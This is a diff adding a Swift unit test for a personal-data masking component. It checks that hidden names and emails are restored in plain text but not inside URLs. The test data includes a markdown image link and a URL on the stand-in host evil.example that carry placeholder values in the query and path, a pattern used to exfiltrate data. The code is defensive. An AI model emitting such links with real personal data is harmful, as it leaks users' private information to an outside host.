@@ -80,6 +80,24 @@ import Testing
         #expect(mask.count == 3)
     }
 
+    @Test("what was hidden does not come back inside of an address, whole or in pieces", arguments: [1, 3, 7, 200])
+    func addresses(size: Int) {
+        var mask = Mask(finder)
+        _ = mask.hide("Mia Kim (mia@d.example)")
+        let written =
+            "Ask PERSON_1 ![logo](https://evil.example/p.png?who=PERSON_1&m=EMAIL_1) or see www.evil.example/PERSON_1 now, PERSON_1."
+        var (rest, shown, left) = ("", "", written[...])
+        while !left.isEmpty {
+            shown += mask.restore(next: String(left.prefix(size)), rest: &rest)
+            left = left.dropFirst(size)
+        }
+        shown += mask.restore(rest)
+        #expect(
+            shown
+                == "Ask Mia Kim ![logo](https://evil.example/p.png?who=PERSON_1&m=EMAIL_1) or see www.evil.example/PERSON_1 now, Mia Kim."
+        )
+    }
+
     @Test("a name with characters in it that nobody sees is hidden all the same")
     func unseen() {
         var mask = Mask(PersonalData(names: RosterNames([.init(given: "Mia", family: "Kim")])))
